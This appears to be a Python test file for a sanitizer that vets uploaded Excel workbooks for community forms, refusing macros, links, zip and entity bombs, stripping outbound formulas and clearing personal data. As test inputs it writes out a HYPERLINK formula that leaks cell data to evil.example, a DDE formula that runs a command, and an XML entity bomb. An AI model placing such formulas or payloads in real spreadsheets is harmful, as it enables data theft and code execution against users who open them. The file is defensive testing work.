# SPDX-License-Identifier: MulanPSL-2.0
"""Workbooks that come from outside: what is no plain small .xlsx is refused with a sentence, what calls out is taken out, headers are found."""

from typing import Any

import openpyxl
import pytest
from openpyxl.comments import Comment

from linli.elements.filling import headers, pouring, proposing, workbooks
from tests.elements.filling.forms import ELDERS, content_of, elders, summary, with_parts

SHEET = "xl/worksheets/sheet1.xml"


def found(book: Any) -> headers.Layout:
    return headers.find(book, proposing.knowing())


def refused(content: bytes) -> str:
    with pytest.raises(workbooks.Refused) as trouble:
        workbooks.opened(content)
    return trouble.value.sentence.zh


@pytest.mark.parametrize("content", [b"\xd0\xcf\x11\xe0 old excel", "姓名,电话\n甲,1".encode(), b"%PDF-1.4", b""])
def test_what_is_no_xlsx_is_refused_and_told_what_to_do(content: bytes) -> None:
    assert "另存为 .xlsx" in refused(content)


def test_a_zip_that_is_no_workbook_and_a_broken_one_are_refused() -> None:
    whole = content_of(elders())
    assert "另存为" in refused(with_parts(whole, lambda name, text: None if name == "xl/workbook.xml" else text))
    assert "损坏" in refused(whole[: len(whole) // 2])
    assert "损坏" in refused(with_parts(whole, lambda name, text: b"<worksheet" if name == SHEET else text))


def test_macros_links_and_embedded_objects_are_refused() -> None:
    whole = content_of(elders())
    for part in ("xl__vbaProject_DOT_bin", "xl__externalLinks__externalLink1_DOT_xml", "xl__embeddings__a_DOT_bin", "xl__connections_DOT_xml"):
        assert "宏" in refused(with_parts(whole, lambda _name, text: text, **{part: b"x"}))
    types = with_parts(whole, lambda name, text: text.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml") if name == "[Content_Types].xml" else text)
    assert "宏" in refused(types)


def test_a_packed_bomb_is_refused_before_it_is_unpacked() -> None:
    assert "太大" in refused(with_parts(content_of(elders()), lambda _name, text: text, xl__media__a_DOT_bin=b"0" * (workbooks.MOST_UNPACKED + 1)))
    assert "太大" in refused(with_parts(content_of(elders()), lambda name, text: text + b" " * workbooks.MOST_SHEET if name == SHEET else text))


def test_entities_are_refused() -> None:
    bomb = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;">]>'
    assert "损坏" in refused(with_parts(content_of(elders()), lambda name, text: bomb + text if name == SHEET else text))


def test_a_merge_over_the_whole_sheet_is_refused_and_not_built() -> None:
    def widen(name: str, text: bytes) -> bytes:
        return text.replace(b'ref="A1:J1"', b'ref="A1:XFD1048576"') if name == SHEET else text

    assert "太大" in refused(with_parts(content_of(elders()), widen))


def test_a_cell_at_the_far_end_of_the_sheet_makes_no_cells_between() -> None:
    book = elders()
    book.active["XFD1048576"] = "x"

    opened = workbooks.opened(content_of(book))
    workbooks.disarm(opened)

    assert found(opened).end == 7
    assert len(opened.active._cells) < 200


def test_formulas_links_and_rules_that_call_out_are_taken_out_and_sums_stay() -> None:
    book = summary()
    sheet = book.active
    sheet["G1"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    sheet["G2"] = "=cmd|' /C calc'!A0"
    sheet["G3"] = "x"
    sheet["G3"].hyperlink = "http://evil.example"
    book.defined_names["bad"] = openpyxl.workbook.defined_name.DefinedName("bad", attr_text="[1]Sheet!$A$1")

    opened = workbooks.opened(content_of(book))
    removed = workbooks.disarm(opened)

    assert sorted(removed) == ["Sheet!G1", "Sheet!G2"]
    assert opened.active["B6"].value == "=SUM(B5:B5)"
    assert opened.active["G3"].hyperlink is None
    assert b"evil.example" not in workbooks.saved(opened)
    assert list(opened.defined_names) == []


def test_a_title_over_the_header_and_signatures_below_are_no_rows() -> None:
    layout = found(elders())

    assert (layout.top, layout.bottom, layout.first, layout.end) == (3, 3, 4, 7)
    assert [one.own for one in layout.headings] == list(ELDERS)


def test_a_header_of_two_lines_with_numbers_below_reads_from_top_to_bottom() -> None:
    layout = found(summary())

    assert (layout.top, layout.bottom, layout.first, layout.end) == (2, 4, 5, 6)
    assert headers.shape(layout) == ["社区", "户数", "人口 / 人口数", "人口 / 60岁以上", "人口 / 党员数"]


def test_the_header_may_lie_on_another_sheet_and_a_hidden_one_is_not_looked_at() -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = "填表说明：请按要求填写。"
    hidden = book.create_sheet("旧表")
    hidden.sheet_state = "hidden"
    hidden.append(["姓名", "性别", "年龄", "民族"])
    book.create_sheet("表").append(["姓名", "性别"])

    assert found(book).sheet == "表"


@pytest.mark.parametrize("rows", [[], [["只有标题"]], [["1", "2", "3"]], [["填表人：", "审核人："]]])
def test_without_a_header_the_form_is_refused(rows: list[list[str]]) -> None:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)

    with pytest.raises(workbooks.Refused, match="No header"):
        found(book)


def test_filled_rows_and_numbers_of_people_are_not_kept_with_the_form() -> None:
    book = elders()
    sheet = book.active
    sheet["B4"], sheet["E4"] = "张三", "120101198002030011"
    sheet["B4"].comment = Comment("张三", "x")
    sheet["H7"] = "联系 13900001234"
    book.create_sheet("样例").append(["李四", "120101198002030011"])

    removed = pouring.emptied(book, found(book))

    kept = workbooks.saved(book)
    opened = workbooks.opened(kept)
    assert sorted(removed) == ["样例!B1", "花名册!H7"]
    assert [cell.value for row in opened["花名册"]["A4:J6"] for cell in row if cell.value] == []
    assert opened["花名册"]["F7"].value == "审核人：王主任"
